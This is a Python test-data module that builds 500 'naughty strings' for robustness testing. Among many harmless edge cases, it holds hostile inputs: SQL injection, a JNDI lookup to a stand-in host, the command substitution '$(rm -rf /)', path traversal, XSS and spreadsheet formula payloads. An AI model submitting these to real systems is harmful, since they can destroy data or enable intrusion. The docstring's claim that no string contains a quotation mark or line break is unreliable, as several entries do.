"""Five hundred strings that break careless programs, built in code so that each is the same on every run."""

_PROGRAMS = [
    "'; DROP TABLE survey; --", '" OR 1=1 --', "Robert'); DROP TABLE items;--", "1 UNION SELECT * FROM wave", "%s%s%n",
    "{0.__class__}", "${jndi:ldap://x.invalid/a}", "{{7*7}}", "$(rm -rf /)", "`id`", "; ls -la", "../../etc/passwd",
    "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("http://x.invalid","a")', "\t=1+1",
    "![x](http://x.invalid/a.png)", "[link](javascript:alert(1))", "# Heading", "**bold** _it_ ~~no~~", "| a | b |",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</span></div><h1>", "<b>bold", "&lt;&amp;&#x27;",
    "$x^2$", "$$\\frac{1}{0}$$", "\\input{a}", ":material/home:", ":red[red]", "%(name)s", "{name}", "{}", "{", "}",
    "%",
]  # fmt: skip
_WORDS = [
    "NaN", "nan", "inf", "-inf", "Infinity", "-0", "0", "1e308", "1E400", "0x1F", "1_000", "1,000.5", "1.000,5",
    "１２３",
    "٣", "½", "∞", "NULL", "null", "None", "nil", "undefined", "true", "FALSE", "N/A", "#N/A", "#REF!", "#DIV/0!", "NA",
    "con", "aux", "__proto__", "constructor", "__class__", "self", "item_id", "2025-02-30", "0000-00-00", "31/02/9999",
    "12:61:61", "1900-01-00", "9999-12-31", "sep=;", "id", "Total", "--", "...", "?", "!", ";", ";;;", ",", ",,", "|",
]  # fmt: skip
_SCRIPTS = [
    "Ｆｕｌｌ ｗｉｄｔｈ", "田中さんにあげて下さい", "พรรณนา", "𠜎𠜱𠝹𠱓", "مناقشة سبل استخدام", "עִבְרִית", "हिन्दी",
    "ﬁ ligature", "ẞß", "İıIi",
    "👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏿", "🇨🇭🇨🇭🇨", "❤️", "\u202eright to left", "\u2066isolated", "a\u200bb",
    "\ufeffmark", "\u2028line",
    "\u2029paragraph", "\u0085next", "\u00a0", "\u3000", "soft\u00adhyphen",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢", "e" + "\u0301" * 300,
    "\U0010ffff", "\ufffe", "\ufffd",
]  # fmt: skip
_LONG = ["W" * 500, "ä" * 5_000, "long word " * 900, "(" * 400, "\\" * 300, "'" * 300, "a;b;" * 300, "1 " * 500]
_UNSEEN = [f"a{chr(code)}b" for code in (*range(1, 10), 11, 12, *range(14, 32), *range(127, 160))]
_FORMATTED = [f"{left}{word}{right}" for left, right in ("<>", "[]", "{}", "''", "``") for word in _WORDS]


def naughty_strings() -> list[str]:
    """Return 500 different strings, none of them blank and none with a line break or a quotation mark in its middle."""
    every = [*_PROGRAMS, *_WORDS, *_SCRIPTS, *_LONG, *_UNSEEN, *_FORMATTED]
    seen = dict.fromkeys(text for text in every if text.strip())
    block = 0x2190
    while len(seen) < 500:
        seen[f"{chr(block)} {chr(block + 1)}"] = None
        block += 2
    return list(seen)[:500]
